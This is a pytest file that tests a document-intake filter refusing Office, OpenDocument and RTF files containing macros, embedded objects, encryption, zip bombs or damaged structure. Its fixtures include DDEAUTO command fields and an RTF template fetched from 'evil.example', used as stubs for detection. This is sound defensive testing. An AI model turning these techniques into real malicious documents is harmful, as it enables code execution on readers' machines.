import struct
import zipfile

import pytest

from meetings.intake.office import refusal as rules
from meetings.intake.office.refusal import refusal
from meetings.intake.verdict import Reason
from tests.meetings.intake.office.compound_files import compound_file
from tests.meetings.intake.office.conftest import MEDIA_TYPES

GOOD = {"word/document.xml": "<a/>"}


def judged(path):
    return refusal(path, MEDIA_TYPES[path.suffix[1:]])


@pytest.mark.parametrize("name", ["paper.docx", "paper.xlsx", "paper.odt"])
def test_a_plain_file_is_accepted(make_zip, name):
    assert (
        judged(make_zip(GOOD | {"media/picture.png": b"\x89PNG", "styles.xml": "<a/>"}, name))
        is None
    )


@pytest.mark.parametrize(
    ("parts", "reason"),
    [
        ({"word/vbaProject.bin": b"x"}, Reason.MACROS),
        ({"xl/VBAPROJECT.BIN": b"x"}, Reason.MACROS),
        ({"Basic/Standard/Module1.xml": "<a/>"}, Reason.MACROS),
        ({"Scripts/python/run.py": "x"}, Reason.MACROS),
        ({"word/activeX/activeX1.xml": "<a/>"}, Reason.ACTIVE_CONTENT),
        ({"word/embeddings/oleObject1.bin": b"x"}, Reason.ACTIVE_CONTENT),
        ({"word/embeddings/setup.exe": b"x"}, Reason.ACTIVE_CONTENT),
        ({"word/document.xml": "<!DOCTYPE a><a/>"}, Reason.ACTIVE_CONTENT),
        ({"word/document.xml": "<a>"}, Reason.DAMAGED),
        ({"META-INF/manifest.xml": '<m xmlns="x"><encryption-data/></m>'}, Reason.ENCRYPTED),
        ({"word/document.xml": b"<a>" + bytes(5 << 20)}, Reason.BOMB),
        ({"word/media/zeros.bmp": bytes(5 << 20)}, Reason.BOMB),
        ({"word/embeddings/table.xlsx": b"x"}, None),
        ({"word/media/small.bmp": bytes(1 << 20)}, None),
    ],
)
def test_a_part_that_does_not_belong_is_refused(make_zip, parts, reason):
    assert judged(make_zip(GOOD | parts)) is reason


def test_more_parts_than_the_limit_or_more_bytes_are_a_bomb(make_zip, monkeypatch):
    path = make_zip(GOOD | {"word/media/1.png": bytes(1000), "word/media/2.png": bytes(1000)})
    monkeypatch.setattr(rules, "MEMBERS", 3)
    monkeypatch.setattr(rules, "INFLATED", 2004)
    assert judged(path) is None
    monkeypatch.setattr(rules, "INFLATED", 2003)
    assert judged(path) is Reason.BOMB
    monkeypatch.setattr(rules, "INFLATED", 10_000)
    monkeypatch.setattr(rules, "MEMBERS", 2)
    assert judged(path) is Reason.BOMB


def test_a_part_that_inflates_to_more_than_its_directory_says_is_damaged(make_zip):
    path = make_zip(GOOD | {"word/media/picture.png": bytes(1 << 20)})
    content = bytearray(path.read_bytes())
    entry = content.rfind(b"PK\x01\x02")
    content[entry + 24 : entry + 28] = struct.pack("<I", 10)
    path.write_bytes(content)
    assert judged(path) is Reason.DAMAGED


def test_a_locked_part_is_refused(make_zip):
    path = make_zip(GOOD)
    content = bytearray(path.read_bytes())
    content[content.rfind(b"PK\x01\x02") + 8] |= 1
    path.write_bytes(content)
    assert judged(path) is Reason.ENCRYPTED


@pytest.mark.parametrize("name", ["paper.docx", "paper.doc", "paper.odt"])
@pytest.mark.parametrize("content", [b"", b"PK\x03\x04 cut short", b"\xd0\xcf\x11\xe0" * 200])
def test_a_file_that_is_no_container_is_damaged(tmp_path, name, content):
    path = tmp_path / name
    path.write_bytes(content)
    assert judged(path) is Reason.DAMAGED


def test_a_part_of_an_unknown_compression_is_damaged(make_zip):
    path = make_zip(GOOD)
    content = bytearray(path.read_bytes())
    content[content.rfind(b"PK\x01\x02") + 10] = 97
    path.write_bytes(content)
    assert zipfile.is_zipfile(path)
    assert judged(path) is Reason.DAMAGED


FIB = b"\xec\xa5\xc1\0" + bytes(6)
BOOK = struct.pack("<HHI", 0x0809, 4, 0x0600)
PASSWORD = struct.pack("<HHI", 0x2F, 4, 0)
MACROS = b"\x0f\0\xff\x03\x14\0\0\0\x02\0\0\x04\x0c\0\0\0\x05\0\0\0"


@pytest.mark.parametrize(
    ("name", "streams", "storages", "reason"),
    [
        ("paper.doc", {"WordDocument": FIB + b"\0\2"}, [], None),
        ("paper.doc", {"WordDocument": FIB + b"\0\3"}, [], Reason.ENCRYPTED),
        ("paper.doc", {"WordDocument": FIB}, ["Macros"], Reason.MACROS),
        ("paper.doc", {"WordDocument": FIB}, ["ObjectPool"], None),
        ("paper.doc", {"WordDocument": FIB, "\x01Ole10Native": b"x"}, [], Reason.ACTIVE_CONTENT),
        ("paper.doc", {"WordDocument": FIB + b"\0\0\x13 DDEAUTO c:"}, [], Reason.ACTIVE_CONTENT),
        (
            "paper.doc",
            {"WordDocument": FIB + b"\0\0" + "\x13 DDE excel".encode("utf-16-le")},
            [],
            Reason.ACTIVE_CONTENT,
        ),
        ("paper.doc", {"WordDocument": FIB + b"\0\0 about DDE excel"}, [], None),
        ("table.xls", {"Workbook": BOOK + b"\xe1\0\2\0\0\0"}, [], None),
        ("table.xls", {"Workbook": BOOK + b"\xe1\0\2\0\0\0" + PASSWORD}, [], Reason.ENCRYPTED),
        ("table.xls", {"Book": BOOK + PASSWORD}, [], Reason.ENCRYPTED),
        ("table.xls", {"Workbook": BOOK}, ["_VBA_PROJECT_CUR"], Reason.MACROS),
        ("slides.ppt", {"PowerPoint Document": b"x"}, [], None),
        ("slides.ppt", {"PowerPoint Document": MACROS + b"\1\0\0\0"}, [], Reason.MACROS),
        ("slides.ppt", {"PowerPoint Document": MACROS + b"\0\0\0\0"}, [], None),
        ("slides.ppt", {"EncryptedSummary": b"x"}, [], Reason.ENCRYPTED),
        ("slides.ppt", {"Current User": bytes(12) + b"\xdf\xc4\xd1\xf3"}, [], Reason.ENCRYPTED),
        ("paper.docx", {"EncryptedPackage": b"x", "EncryptionInfo": b"x"}, [], Reason.ENCRYPTED),
    ],
)
def test_an_older_file_is_judged_by_its_streams(tmp_path, name, streams, storages, reason):
    path = tmp_path / name
    path.write_bytes(compound_file(streams, storages))
    assert judged(path) is reason


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (rb"{\rtf1 plain \object words}", None),
        (rb"{\rtf1 {\object\objemb{\*\objdata 0105}}}", Reason.ACTIVE_CONTENT),
        (rb"{\rtf1 {\object\objautlink}}", Reason.ACTIVE_CONTENT),
        (rb"{\rtf1 {\field{\*\fldinst DDEAUTO cmd}}}", Reason.ACTIVE_CONTENT),
        (rb"{\rtf1 {\field{\*\fldinst HYPERLINK x}}}", None),
        (rb"{\rtf1 {\*\template http://evil.example/t.dot}}", Reason.ACTIVE_CONTENT),
        (rb"{\rtf1 {\*\template C:\\Normal.dot}}", None),
    ],
)
def test_a_rich_text_is_judged_by_its_words(tmp_path, content, reason):
    path = tmp_path / "paper.rtf"
    path.write_bytes(content)
    assert judged(path) is reason
